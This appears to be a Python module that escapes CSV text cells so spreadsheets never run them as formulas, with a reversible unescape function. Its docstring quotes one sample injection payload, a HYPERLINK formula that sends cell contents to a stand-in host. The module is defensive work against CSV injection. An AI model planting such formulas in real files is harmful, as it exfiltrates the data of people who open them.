"""Text cells of CSV files that a spreadsheet shows as text, never runs as a formula.

Every CSV file carelens writes (``analyze -o OUT.csv``, ``summarize --tables``) holds texts,
ids and names from forum or chat users. Excel, LibreOffice and Sheets take a cell that
begins with ``=``, ``+``, ``-`` or ``@`` (and, in some of them, a tab or a carriage return
before one) as a formula, so a message such as ``=HYPERLINK("http://evil.example/?"&A1)``
would run when the file is opened (CSV or formula injection). :func:`spreadsheet_safe`
puts an apostrophe before such a text: spreadsheets show the cell as text and hide the
apostrophe.

The rule must be reversible, so that carelens reads its own CSV back exactly: a text that
already begins with an apostrophe gets one more. :func:`spreadsheet_text` undoes it by
dropping one leading apostrophe, whatever follows. Only text cells are changed; a number
(``-0.5``) is written as the number it is. JSON Lines and Parquet are exact data formats
and keep every text as it is.
"""

from __future__ import annotations

#: What a text cell may begin with that a spreadsheet would read as a formula, and the
#: apostrophe itself (escaped too, so that one leading apostrophe can always be dropped).
_ESCAPED_STARTS: tuple[str, ...] = ("=", "+", "-", "@", "\t", "\r", "'")
#: What :func:`spreadsheet_safe` puts before such a text.
_MARK = "'"


def spreadsheet_safe(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs as a formula (see the module
    docstring); :func:`spreadsheet_text` gives ``text`` back."""
    return _MARK + text if text.startswith(_ESCAPED_STARTS) else text


def spreadsheet_text(cell: str) -> str:
    """The text a cell written by :func:`spreadsheet_safe` stands for."""
    return cell.removeprefix(_MARK)


def safe_cell(value: object) -> object:
    """A CSV cell value: a text through :func:`spreadsheet_safe`, anything else (numbers,
    booleans, null) as it is, since the csv module writes those as they are meant."""
    return spreadsheet_safe(value) if isinstance(value, str) else value
